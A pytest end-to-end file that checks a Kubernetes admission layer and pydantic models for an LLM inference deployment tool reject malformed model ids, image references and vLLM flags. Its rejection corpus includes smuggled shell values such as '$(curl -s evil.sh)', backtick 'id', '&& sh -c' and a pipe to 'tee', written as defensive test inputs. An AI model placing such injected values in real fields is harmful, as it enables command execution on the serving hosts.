"""Admission looks inside the strings (issue 25): model ids, vLLM flags and image references.

Each bad spec is refused by the API server itself (the CEL rules shardwise.api.checks generates
into the CRD), on the field, with the same sentence the pydantic models give offline
(`shardwise plan`, the operator): the expected message is computed by the Python side, so the two
cannot drift apart unnoticed. New cases only: tests/e2e/test_validation.py and test_admission.py
keep the earlier ones; test_validation_names.py checks every shipped example is still accepted.
"""

from __future__ import annotations

import json
import subprocess

import pydantic
import pytest
import yaml
from shardwise_runtime.sim import real

from shardwise.api import extra_args, images, model_ids
from shardwise.api.v1alpha1 import InferenceDeploymentSpec
from tests.e2e import real_engine_support as rs
from tests.e2e.support import ROOT, Kubectl
from tests.e2e.test_validation import with_spec

pytestmark = pytest.mark.e2e

ARCH = {"parameters": 8_030_261_248, "layers": 32, "hiddenSize": 4096, "attentionHeads": 32, "kvHeads": 8}
DIGEST = "sha256:" + "0123456789abcdef" * 4


def model(name: str, **extra) -> dict:
    return with_spec(model={"name": name, **extra})


def image(reference: str) -> dict:
    return with_spec(serving__image=reference)


def args(*items: str) -> dict:
    return with_spec(serving__extraArgs=list(items))


def admission_message(problem: str) -> str:
    # The closest-flag hint is Python's (difflib); CEL cannot compute it, so the API server's
    # sentence is the part before it.
    return problem.split("; did you mean")[0]


# (case, object, the field the API server names, the Python side's message for it)
CORPUS = [
    ("model: leading space", model(" meta-llama/Llama-3.1-8B-Instruct"), "spec.model.name",
     model_ids.problem(" meta-llama/Llama-3.1-8B-Instruct")),
    ("model: trailing newline", model("meta-llama/Llama-3.1-8B-Instruct\n"), "spec.model.name",
     model_ids.problem("meta-llama/Llama-3.1-8B-Instruct\n")),
    ("model: command substitution", model("$(curl -s evil.sh)/Llama-3.1-8B-Instruct"), "spec.model.name",
     model_ids.problem("$(x)")),
    ("model: backticks with an inline architecture", model("`id`/Llama-3.1-8B-Instruct", architecture=ARCH),
     "spec.model.name", model_ids.problem("`id`")),
    ("model: hub URL", model("https://huggingface.co/meta-llama/Llama-3.1-8B-Instruct"), "spec.model.name",
     "use the repo id meta-llama/Llama-3.1-8B-Instruct"),
    ("model: hub URL of a tree", model("https://huggingface.co/Qwen/Qwen2.5-7B-Instruct/tree/main"),
     "spec.model.name", "use the repo id Qwen/Qwen2.5-7B-Instruct"),
    ("model: other URL", model("s3://bucket/llama"), "spec.model.name", model_ids.URL_MESSAGE),
    ("model: three parts", model("datasets/meta-llama/Llama-3.1-8B"), "spec.model.name",
     model_ids.problem("a/b/c")),
    ("model: name over 96 characters", model("org/" + "x" * 97), "spec.model.name", model_ids.problem("a/-")),
    ("model: leading dash", model("-org/name"), "spec.model.name", model_ids.problem("a/-")),
    ("model: double dash", model("meta-llama/Llama--3.1-8B"), "spec.model.name", model_ids.problem("a--b")),
    ("model: double dot", model("meta..llama/Llama-3.1-8B"), "spec.model.name", model_ids.problem("a..b")),
    ("model: .git", model("meta-llama/Llama-3.1-8B.git"), "spec.model.name", model_ids.problem("a/b.git")),
    ("image: trailing space", image("vllm/vllm-openai:v0.32.0 "), "spec.serving.image", images.problem(" ")),
    ("image: uppercase repository", image("VLLM/vllm-openai:v0.32.0"), "spec.serving.image", images.problem("A")),
    ("image: tag starting with a dot", image("vllm/vllm-openai:.v0"), "spec.serving.image", images.problem("A")),
    ("image: short digest", image("vllm/vllm-openai@sha256:abc123"), "spec.serving.image", images.problem("A")),
    ("image: URL", image("https://docker.io/vllm/vllm-openai:v0.32.0"), "spec.serving.image",
     images.problem("https://x")),
    ("args: data-parallel size", args("--data-parallel-size", "4"), "spec.serving.extraArgs[0]",
     extra_args.OWNED_MESSAGE),
    ("args: -dp short form", args("--enable-prefix-caching", "-dp", "4"), "spec.serving.extraArgs[1]",
     extra_args.OWNED_MESSAGE),
    ("args: data-parallel underscores and equals", args("--data_parallel_size=2"), "spec.serving.extraArgs[0]",
     extra_args.OWNED_MESSAGE),
    ("args: data-parallel switch, --no- form", args("--no-data-parallel-hybrid-lb"), "spec.serving.extraArgs[0]",
     extra_args.OWNED_MESSAGE),
    ("args: launcher's --nnodes", args("--nnodes=2"), "spec.serving.extraArgs[0]", extra_args.OWNED_MESSAGE),
    ("args: launcher's --headless", args("--headless"), "spec.serving.extraArgs[0]", extra_args.OWNED_MESSAGE),
    ("args: && sh -c", args("--enable-prefix-caching", "&&", "sh", "-c", "echo hi"), "spec.serving.extraArgs[1]",
     extra_args.item_problem("&&")),
    ("args: sh of sh -c", args("--enable-prefix-caching", "&&", "sh", "-c", "echo hi"), "spec.serving.extraArgs[2]",
     extra_args.item_problem("sh")),
    ("args: pipe", args("--enforce-eager", "|", "tee", "/tmp/log"), "spec.serving.extraArgs[1]",
     extra_args.item_problem("|")),
    ("args: several flags in one item", args("--enable-prefix-caching --max-num-batched-tokens 8192"),
     "spec.serving.extraArgs[0]", extra_args.item_problem("--enable-prefix-caching --max-num-batched-tokens 8192")),
    ("args: flag with a trailing space", args("--enforce-eager "), "spec.serving.extraArgs[0]",
     extra_args.item_problem("--enforce-eager ")),
    ("args: flag with a leading space", args(" --enforce-eager"), "spec.serving.extraArgs[0]",
     extra_args.item_problem(" --enforce-eager")),
    ("args: unknown flag", args("--max-num-batch-tokens", "8192"), "spec.serving.extraArgs[0]",
     admission_message(extra_args.item_problem("--max-num-batch-tokens"))),
    ("args: abbreviated flag", args("--enable-prefix-cach"), "spec.serving.extraArgs[0]",
     admission_message(extra_args.item_problem("--enable-prefix-cach"))),
    ("args: --help", args("--help"), "spec.serving.extraArgs[0]", extra_args.item_problem("--help")),
]
assert len(CORPUS) >= 30


@pytest.mark.parametrize("case,doc,field,message", CORPUS, ids=[c[0] for c in CORPUS])
def test_api_server_refuses_bad_strings_with_the_offline_message(kubectl: Kubectl, case: str, doc: dict, field: str,
                                                                  message: str | None) -> None:
    assert message, f"{case}: the Python side accepts it"
    with pytest.raises(pydantic.ValidationError):  # offline, the same spec is refused too
        InferenceDeploymentSpec.model_validate(doc["spec"])
    result = kubectl.run("create", "-f", "-", input=yaml.safe_dump(doc), check=False)
    assert result.returncode != 0, f"{case}: the API server accepted it"
    error = " ".join(result.stderr.split())
    assert f"{field}: Invalid value" in error, f"{case}: {field} not named in: {error}"
    assert " ".join(message.split()) in error, f"{case}: {message!r} not in: {error}"


# Valid values at the edges of each grammar: the rules must not refuse what vLLM, the hub or a
# registry accepts.
VALID = [
    model("/models/llama-3.1-8b"), model("gpt2"), model("Qwen/Qwen2.5-7B-Instruct"), model("org_1/a.b-c_d"),
    model("/root/.cache/huggingface/hub/models--meta-llama--Llama-3.1-8B/snapshots/0123abc"),
    model("o/" + "x" * 96),
    image("shardwise.local/vllm-cpu:0.32.0"), image("localhost:5000/vllm:dev"), image("ubuntu"),
    image(f"registry.example.com:443/team/vllm-openai:v0.32.0@{DIGEST}"), image(f"vllm/vllm-openai@{DIGEST}"),
    image("[::1]:5000/vllm__x/a-b.c:" + "t" * 128),
    args("-O3"), args("-O", "3"), args("-O.mode=3"), args("--compilation-config.mode", "3"), args("--seed", "-1"),
    args("--hf-token"), args("--default-chat-template-kwargs={\"enable_thinking\": false}"),
    args("--enable-prefix-caching", "--allowed-media-domains", "a.example", "b.example"),
    args("--enable_prefix_caching"), args("--no-enable-prefix-caching"), args("--api-key", "k1", "k2"),
    args("--chat-template", "{% for m in messages %}{{ m['content'] }}{% endfor %}"),
]


def test_valid_strings_at_the_edges_are_accepted(kubectl: Kubectl) -> None:
    for doc in VALID:
        InferenceDeploymentSpec.model_validate(doc["spec"])
        result = kubectl.run("create", "--dry-run=server", "-f", "-", input=yaml.safe_dump(doc), check=False)
        assert result.returncode == 0, f"{doc['spec']}: {result.stderr}"


# What only the models can refuse (a value needs its neighbour; CEL on the list cannot afford the
# walk): the API server admits these, the operator reports InvalidSpec and `shardwise plan` exits 1.
LIST_ONLY = [["--enforce-eager", "sh"], ["--enable-prefix-caching", "8192"], ["--max-num-batched-tokens"],
             ["--max-num-batched-tokens", "--enforce-eager"], ["--enforce-eager=true"]]


@pytest.mark.real_engine
@pytest.mark.timeout(1800)
def test_the_rules_agree_with_the_real_vllm_parser() -> None:
    """What the rules accept, vLLM's own parser accepts; what the list rule refuses, it refuses."""
    home = rs.install_real_engine()
    model_path = str(home / "models" / real.MODEL_NAME)
    accepted = [doc["spec"]["serving"]["extraArgs"] for doc in VALID if "extraArgs" in doc["spec"].get("serving", {})]
    for items in LIST_ONLY:
        assert extra_args.list_problem(items), items
    argvs = [[model_path, *items] for items in accepted + LIST_ONLY]
    result = subprocess.run([str(home / "venv/bin/python"), str(ROOT / "tests/e2e/vllm_parse_args.py")],
                            input=json.dumps(argvs), capture_output=True, text=True,
                            timeout=600, env={"PATH": "/usr/bin:/bin", "HOME": str(home),
                                              "VLLM_NO_USAGE_STATS": "1", "HF_HUB_OFFLINE": "1"})
    assert result.returncode == 0, result.stderr[-3000:]
    verdicts = json.loads(result.stdout.strip().splitlines()[-1])
    for items, verdict in zip(accepted, verdicts):
        assert verdict["ok"], f"vLLM refuses {items} that admission accepts: {verdict['error']}"
    for items, verdict in zip(LIST_ONLY, verdicts[len(accepted):]):
        assert not verdict["ok"], f"vLLM accepts {items} that the list rule refuses"
